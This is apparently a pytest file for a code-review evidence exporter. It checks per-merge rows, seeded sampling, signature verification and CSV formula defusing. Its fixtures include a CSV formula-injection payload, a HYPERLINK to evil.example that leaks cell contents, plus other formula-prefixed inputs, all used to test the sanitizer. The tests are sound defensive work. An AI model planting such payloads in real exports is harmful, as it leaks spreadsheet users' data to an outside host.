"""The auditor's export: one row per merge, reproducible samples, CSV cells that are never formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from loopforge.evidence.attest import attest_merge
from loopforge.evidence.cli import main
from loopforge.evidence.export import COLUMNS, evidence_rows, sample, to_csv
from loopforge.evidence.facts import MergeFacts, ReviewFact, all_merge_facts
from loopforge.evidence.signing import KeySigner, load_public_key
from loopforge.evidence.store import attestation_store_for
from loopforge.evidence.verify import Trust
from loopforge.records import apply_entry, creation_entry
from loopforge.repository.base import RecordQuery
from loopforge.repository.sqlite import SQLiteRepository
from loopforge.states import LoopState
from loopforge.text import csv_cell as safe_cell
from loopforge.trail import LoopTransition, Outcome
from tests.evidence.helpers import ecdsa_pem

START = datetime(2026, 10, 1, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def seed_merges(repo: SQLiteRepository, n: int, title: str = "Change {i}") -> None:
    """``n`` merged PR records, one per day from START, as the recorder writes their facts."""
    for i in range(1, n + 1):
        rid = f"octo/app#{i}"
        when = START + timedelta(days=i)
        pr = {"number": i, "title": title.format(i=i), "author": f"dev{i % 3}", "author_id": 100 + i % 3,
              "head_sha": f"{i:040x}", "base_ref": "main", "base_sha": f"{i + 5000:040x}", "merged": True,
              "state": "closed", "merge_commit_sha": f"{i + 9000:040x}", "merged_at": when.isoformat(),
              "merged_by": "lead", "ci": {"sha": f"{i:040x}", "status": "passed",
                                          "runs": {"build": {"status": "passed", "at": when.isoformat()}}},
              "reviews": {"rev": {"state": "approved", "at": (when - timedelta(hours=1)).isoformat(), "id": 7,
                                  "commit_id": f"{i:040x}"}}}
        first = creation_entry(rid, f"https://github.com/octo/app/pull/{i}", repo="octo/app",
                               state=LoopState.APPROVED, occurred_at=when - timedelta(hours=2),
                               metadata={"github": {"pr": dict(pr, merged=False)}})
        head = apply_entry(None, first)
        merge = LoopTransition(record_id=rid, sequence=2, from_state=LoopState.APPROVED, to_state=LoopState.MERGED,
                               trigger="pull_request.closed", outcome=Outcome.APPLIED if i % 5 else Outcome.VIOLATION,
                               rule=None if i % 5 else "policy:two-approvals", reason=None if i % 5 else "1 of 2",
                               occurred_at=when, recorded_at=when, metadata={"github": {"pr": pr}},
                               prev_hash=head.last_hash).sealed()
        repo.append(apply_entry(head, merge), [first, merge])


def test_one_row_per_merge_with_every_column(tmp_path: Path) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 5)
    rows = evidence_rows(repo, attestation_store_for(repo))
    assert [r.facts.pr_number for r in rows] == [1, 2, 3, 4, 5]
    data = rows[0].as_dict()
    assert list(data) == COLUMNS
    assert data["approvers"] == [{"login": "rev", "id": 7, "approved_at": data["approvers"][0]["approved_at"],
                                  "commit": f"{1:040x}"}]
    assert data["ci_at_merged_head"] == [{"name": "build", "status": "passed"}]
    assert (data["verdict_at_merge"], data["attestation_present"]) == ("PASSED", False)
    assert rows[4].as_dict()["verdict_at_merge"] == "FAILED"
    assert rows[4].as_dict()["violations"] == ["policy:two-approvals: 1 of 2"]


def test_period_and_repository_filters(tmp_path: Path) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 10)
    rows = evidence_rows(repo, attestation_store_for(repo), since=START + timedelta(days=3),
                         until=START + timedelta(days=6))
    assert [r.facts.pr_number for r in rows] == [3, 4, 5]
    assert evidence_rows(repo, attestation_store_for(repo), repo="other/repo") == []


def test_sampling_is_reproducible_and_seed_dependent(tmp_path: Path) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 40)
    store = attestation_store_for(repo)
    draws = [[r.facts.pr_number for r in evidence_rows(repo, store, n=12, seed=seed)] for seed in (7, 7, 8)]
    assert draws[0] == draws[1] and draws[0] != draws[2]
    assert len(draws[0]) == 12 and len(set(draws[0])) == 12 and draws[0] == sorted(draws[0])
    # the draw depends on the population, not on the order the store returns it in
    facts: list[MergeFacts] = [f for h in repo.query(RecordQuery(limit=100)).items
                               for f in all_merge_facts(h, repo.entries(h.record_id))]
    assert [f.pr_number for f in sample(facts, 12, 7)] == [f.pr_number for f in sample(facts[::-1], 12, 7)]
    assert len(sample(facts, 100, 1)) == 40


@pytest.mark.parametrize("value", ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", EVIL])
def test_formula_cells_are_defused(value: str) -> None:
    cell = safe_cell(value)
    assert cell.startswith("'") and cell[1:].lstrip("\t ").startswith(value.lstrip("\t\r"))
    assert safe_cell("  =cmd") == "'  =cmd" and safe_cell("a=b") == "a=b" and safe_cell(None) == ""


def test_csv_of_hostile_titles_and_logins(tmp_path: Path) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 3, title=EVIL + " {i}\x1b[31m\nnext line")
    rows = evidence_rows(repo, attestation_store_for(repo))
    rows = [dataclasses.replace(r, facts=dataclasses.replace(
        r.facts, merged_by="@admin", reviews=(ReviewFact("-rev", "approved", "2026-10-01T00:00:00Z"),)))
        for r in rows]
    parsed = list(csv.reader(io.StringIO(to_csv(rows))))
    assert parsed[0] == COLUMNS and len(parsed) == 4
    for line in parsed[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert "\x1b" not in cell
        assert line[COLUMNS.index("pr_title")].startswith("'=HYPERLINK")
        assert line[COLUMNS.index("merged_by")] == "'@admin"
        assert line[COLUMNS.index("approvers")].startswith("'-rev @ ")


def cli(argv: list[str]) -> int:
    return main(argv)


def test_cli_export_with_verification(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 6)
    private, public = ecdsa_pem()
    head = repo.head("octo/app#2")
    assert head is not None
    [facts] = all_merge_facts(head, repo.entries("octo/app#2"))
    assert attest_merge(facts, attestation_store_for(repo), KeySigner(private)).outcome == "written"
    (tmp_path / "pub.pem").write_text(public)
    assert cli(["evidence", "--db", str(repo.path), "--format", "json", "--key", str(tmp_path / "pub.pem")]) == 0
    rows: list[dict[str, Any]] = json.loads(capsys.readouterr().out)
    assert [(r["pr_number"], r["attestation_present"], r["attestation_verified"]) for r in rows] == [
        (1, False, "no: no evidence stored"), (2, True, "yes"), (3, False, "no: no evidence stored"),
        (4, False, "no: no evidence stored"), (5, False, "no: no evidence stored"),
        (6, False, "no: no evidence stored")]
    out = tmp_path / "sample.csv"
    assert cli(["evidence", "--db", str(repo.path), "--sample", "3", "--seed", "42", "-o", str(out)]) == 0
    first = out.read_text()
    assert cli(["evidence", "--db", str(repo.path), "--sample", "3", "--seed", "42", "-o", str(out)]) == 0
    assert out.read_text() == first and first.count("\n") == 4
    unverified = evidence_rows(repo, attestation_store_for(repo), trust=None)
    assert unverified[1].attestation_verified.startswith("not checked")
    other = Trust(public_key=load_public_key(ecdsa_pem()[1]))
    assert evidence_rows(repo, attestation_store_for(repo), trust=other)[1].attestation_verified.startswith(
        "no: signature")


def test_export_reads_each_attestation_once(tmp_path: Path) -> None:
    repo = SQLiteRepository(tmp_path / "lf.db")
    seed_merges(repo, 3)
    private, public = ecdsa_pem()
    store = attestation_store_for(repo)
    for head in repo.query(RecordQuery(limit=10)).items:
        for facts in all_merge_facts(head, repo.entries(head.record_id)):
            attest_merge(facts, store, KeySigner(private))
    reads: list[str] = []

    class Counting:
        def put(self, attestation: Any) -> bool:
            raise AssertionError("the export never writes")

        def get(self, merge_sha: str) -> Any:
            reads.append(merge_sha)
            return store.get(merge_sha)

    rows = evidence_rows(repo, Counting(), trust=Trust(public_key=load_public_key(public)))
    assert [r.attestation_verified for r in rows] == ["yes"] * 3
    assert sorted(reads) == sorted(r.facts.merge_sha for r in rows) and len(reads) == 3
